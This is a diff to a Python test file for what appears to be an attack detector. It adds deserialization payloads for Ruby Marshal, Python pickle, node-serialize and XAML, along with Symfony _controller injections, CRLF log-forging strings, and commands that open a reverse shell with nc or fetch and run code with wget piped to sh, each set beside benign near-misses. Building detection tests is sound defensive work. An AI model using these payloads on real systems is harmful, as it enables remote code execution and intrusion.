@@ -1213,10 +1213,91 @@ R5_BENIGN = [
 ]
 
 
+# Round 6 (second blind batches): Ruby Marshal session cookies with gadget classes, Python pickles calling os / posix /
+# subprocess, node-serialize function markers, a XAML ObjectDataProvider starting a Process, Symfony's fragment renderer
+# pointed at a PHP function, log lines forged after a line break in a one-word field; beside Rails' own Marshal
+# sessions, list-form subprocess calls in code answers, GraphQL operation variables and pasted logs. Written before the
+# fix and measured on the code before round 6's changes (numbers in the round's report).
+def _marshal(body: bytes) -> str:
+    return base64.b64encode(b"\x04\x08" + body).decode()
+
+
+def _pickle(text: bytes) -> str:
+    return base64.b64encode(text).decode()
+
+
+R6_ATTACKS = [
+    ("ruby marshal r6", "cookie", _marshal(b"o:@ActiveSupport::Deprecation::DeprecatedInstanceVariableProxy\x07:\x0e@instanceo:\x08ERB\x06:\t@srcI\"\x0f`id > /tmp/x`\x06:\x06ET")),
+    ("ruby marshal r6", "form", _marshal(b"[\x07o:\x15Gem::SpecFetcher\x00o:\x15Gem::Requirement\x06:\x10@requirementsU:\x1bGem::StubSpecification")),
+    ("ruby marshal r6", "q", _marshal(b"U:\x15Gem::Requirement[\x06o:\x18Gem::Package::TarReader\x06:\x08@ioo:\x14Net::BufferedIO")),
+    ("ruby marshal r6", "json", _marshal(b"o:\x13Gem::Installer\x00o:\x16Net::WriteAdapter\x07:\x0c@socketo:\x14Gem::RequestSet")),
+    ("ruby marshal r6", "cookie", _marshal(b"{\x06I\"\x0fsession_id\x06:\x06ETo:@ActiveSupport::Deprecation::DeprecatedInstanceVariableProxy\x06:\x0e@instanceo:\x08ERB") + "--0123456789abcdef0123456789abcdef01234567"),
+    ("ruby marshal r6", "form", "\x04\x08o:@ActiveSupport::Deprecation::DeprecatedInstanceVariableProxy\x06:\x0e@instanceo:\x08ERB"),
+    ("python pickle r6", "cookie", _pickle(b"cos\nsystem\n(S'id'\ntR.")),
+    ("python pickle r6", "form", _pickle(b"cposix\nsystem\n(Vwget http://203.0.113.9/x -O- | sh\ntR.")),
+    ("python pickle r6", "q", _pickle(b"csubprocess\ncheck_output\n((lp0\nS'id'\natR.")),
+    ("python pickle r6", "json", _pickle(b"\x80\x02cbuiltins\neval\nq\x00X\x1c\x00\x00\x00__import__('os').system('id')q\x01\x85q\x02Rq\x03.")),
+    ("python pickle r6", "form", "cos\nsystem\n(S'nslookup x.oast.example'\ntR."),
+    ("python pickle r6", "cookie", _pickle(b"\x80\x04\x95\x1d\x00\x00\x00\x00\x00\x00\x00\x8c\x05posix\x94\x8c\x06system\x94\x93\x94\x8c\x02id\x94\x85\x94R\x94.")),
+    ("python pickle r6", "b64", "cnt\nsystem\n(Vcalc.exe\ntR."),
+    ("node serialize r6", "cookie", base64.b64encode(b'{"rce":"_$$ND_FUNC$$_function(){require(\'child_process\').exec(\'id\')}()"}').decode()),
+    ("node serialize r6", "json", '{"user":"_$$ND_FUNC$$_function (){ return require(\'os\').hostname() }()"}'),
+    ("node serialize r6", "form", "_$$ND_FUNC$$_function(){eval(String.fromCharCode(105,100))}()"),
+    ("xaml process r6", "xml", '<ResourceDictionary xmlns="http://schemas.microsoft.com/winfx/2006/xaml/presentation" xmlns:x="http://schemas.microsoft.com/winfx/2006/xaml" xmlns:d="clr-namespace:System.Diagnostics;assembly=System"><ObjectDataProvider x:Key="a" ObjectType="{x:Type d:Process}" MethodName="Start"><ObjectDataProvider.MethodParameters><sys:String xmlns:sys="clr-namespace:System;assembly=mscorlib">calc</sys:String></ObjectDataProvider.MethodParameters></ObjectDataProvider></ResourceDictionary>'),
+    ("xaml process r6", "xml", '<ObjectDataProvider xmlns="http://schemas.microsoft.com/winfx/2006/xaml/presentation" xmlns:x="http://schemas.microsoft.com/winfx/2006/xaml" ObjectType = "{ x:Type  Diag:ProcessStartInfo }" MethodName="Start"/>'),
+    ("xaml process r6", "form", '{x:Type sd:Process}'),
+    ("xaml process r6", "json", '<ObjectDataProvider ObjectType="{x:Type Process}" MethodName="Start" xmlns="http://schemas.microsoft.com/winfx/2006/xaml/presentation"/>'),
+    ("symfony fragment r6", "rawq", "_path=_controller%3Dsystem%26command%3Dwhoami%26return_value%3Dnull&_hash=abc"),
+    ("symfony fragment r6", "rawq", "_path=_controller%3Dpassthru%26command%3Dcat%2B%2Fetc%2Fpasswd&_hash=x"),
+    ("symfony fragment r6", "q", "_controller=shell_exec&cmd=id"),
+    ("symfony fragment r6", "rawq", "_path=_controller%3Dphpinfo%26what%3D-1&_hash=Zm9v"),
+    ("symfony fragment r6", "rawq", "_path=_controller%3Dfile_put_contents%26filename%3Dx.php%26data%3Dhi&_hash=q"),
+    ("symfony fragment r6", "rawq", "_path=_controller%3D%5Csystem%26command%3Did&_hash=q"),
+    ("symfony fragment r6", "json", '{"_controller": "assert", "assertion": "1"}'),
+    ("crlf log forging r6", "q", "guest\r\n2024-06-01 12:00:00 INFO user=admin action=login result=success"),
+    ("crlf log forging r6", "form", "admin\n2024-06-01T12:00:00Z WARN login failed for user=root"),
+    ("crlf log forging r6", "json", "bob\r\n[2024-06-01 12:00:00] ERROR payment refunded order=991"),
+    ("crlf log forging r6", "form", "x\n127.0.0.1 - - [01/Jun/2024:12:00:00 +0000] \"GET /admin HTTP/1.1\" 200 512"),
+    ("crlf log forging r6", "q", "alice\r\nINFO 2024-06-01 12:00:00,123 user admin logged in"),
+    ("crlf log forging r6", "hdr", "1.0\r2024-06-01 12:00:00 CRITICAL database dropped"),
+    ("crlf log forging r6", "form", "guest\nJun  1 12:00:00 web01 sshd[812]: Accepted password for root from 10.0.0.1 port 22"),
+    ("crlf log forging r6", "json", "carol\n\n2024/06/01 12:00:00 [notice] user=admin granted role=superuser"),
+    ("python call r6", "q", "subprocess.check_output(['id'])"), ("python call r6", "form", "subprocess.run(['sh','-c','id'])"),
+    ("python call r6", "json", "os.popen(__import__('base64').b64decode('aWQ=').decode()).read()"),
+    ("python call r6", "q", "subprocess.Popen(('nc', '203.0.113.9', '4444', '-e', '/bin/sh'))"),
+    ("php call r6", "q", "rename($_GET['a'], 'x.php')"), ("php call r6", "form", "unlink($f);"),
+    ("php call r6", "q", "system($c)"),
+]
+R6_BENIGN = [
+    ("json", "subprocess.run([\"convert\", src, dst], check=True)  # argv list, no shell"),
+    ("form", "subprocess.run(argv, check=True, timeout=30)"),
+    ("json", "proc = subprocess.Popen([exe, \"-p\", port_arg], stdout=subprocess.PIPE)"),
+    ("q", "subprocess.check_output(args, text=True) example"), ("json", "out = subprocess.check_output(argv)"),
+    ("json", "rc = subprocess.call([sys.executable, \"-m\", \"pip\", \"install\", pkg])"),
+    ("json", "mutation Rename($id: ID!, $name: String!) { renameItem(id: $id, name: $name) { id } }"),
+    ("json", "query Copy($from: ID!) { copy(from: $from) { id } }"),
+    ("json", "mutation Unlink($acct: ID!) { unlinkAccount(id: $acct) { ok } }"),
+    ("json", "mutation Rename($input: RenameInput!) { rename(input: $input) { path } }"),
+    ("cookie", base64.b64encode(b"\x04\x08{\x07I\"\x0fsession_id\x06:\x06ETI\"%0123456789abcdef0123456789abcdef\x06;\x00TI\"\x10_csrf_token\x06;\x00FI\"1abc\x06;\x00F").decode()),
+    ("cookie", base64.b64encode(b"\x04\x08{\x06I\"\x0cuser_id\x06:\x06ETi\x02\xd2\x04").decode() + "--3b1c9e8f2a7d6c5b4a39281706f5e4d3c2b1a098"),
+    ("form", base64.b64encode(b"\x80\x04\x95\x10\x00\x00\x00\x00\x00\x00\x00}\x94\x8c\x04cart\x94]\x94s.").decode()),
+    ("q", "python pickle cos system exploit explained"), ("q", "ERB gadget ruby marshal"),
+    ("q", "Gem::Requirement"),
+    ("xml", '<ResourceDictionary xmlns="http://schemas.microsoft.com/winfx/2006/xaml/presentation" xmlns:x="http://schemas.microsoft.com/winfx/2006/xaml"><Style x:Key="b" TargetType="{x:Type Button}"/><ObjectDataProvider x:Key="e" ObjectType="{x:Type sys:Enum}" MethodName="GetValues"/></ResourceDictionary>'),
+    ("q", "x:Type Process in XAML"),
+    ("q", "_controller=App\\Controller\\HomeController::index"), ("q", "_controller=app.controller.home:indexAction"),
+    ("q", "symfony _controller attribute"), ("q", "_controller: AppBundle:Default:index"),
+    ("form", "The export failed last night.\n2024-06-01 02:00:13 ERROR job=export timeout after 300s\nCan you check?"),
+    ("json", "2024-06-01 12:00:00 INFO starting worker\n2024-06-01 12:00:01 INFO ready"),
+    ("form", "Logs:\n2024-06-01 12:00:00 ERROR disk full"), ("form", "Hi,\n2024-06-01 works for me, 10:00 or 14:00?"),
+    ("form", "Agenda\n2024-06-01 12:00 kickoff\n2024-06-02 09:00 review"),
+]
+
+
 # Round 1 (free-form, ATTACKS/BENIGN) and round 2 (one class per CRS rule, then two later batches) stay separate lists
 # for the per-batch first-pass numbers; one attack test and one near-miss test run over all of them.
-_ATTACKS = [("", c, v) for c, v in ATTACKS] + CLASS_ATTACKS + BATCH2 + TEMPLATE_EXTRA + R3_ATTACKS + R3B_ATTACKS + R3C_ATTACKS + R5_ATTACKS
-_NEAR_MISSES = BENIGN + CLASS_BENIGN + BATCH2_BENIGN + TEMPLATE_EXTRA_BENIGN + R3_BENIGN + R3B_BENIGN + R3C_BENIGN + R5_BENIGN
+_ATTACKS = [("", c, v) for c, v in ATTACKS] + CLASS_ATTACKS + BATCH2 + TEMPLATE_EXTRA + R3_ATTACKS + R3B_ATTACKS + R3C_ATTACKS + R5_ATTACKS + R6_ATTACKS
+_NEAR_MISSES = BENIGN + CLASS_BENIGN + BATCH2_BENIGN + TEMPLATE_EXTRA_BENIGN + R3_BENIGN + R3B_BENIGN + R3C_BENIGN + R5_BENIGN + R6_BENIGN
 
 
 @pytest.mark.parametrize("cls,carrier,value", _ATTACKS, ids=[f"{k}|{c}:{v[:30]}" for k, c, v in _ATTACKS])
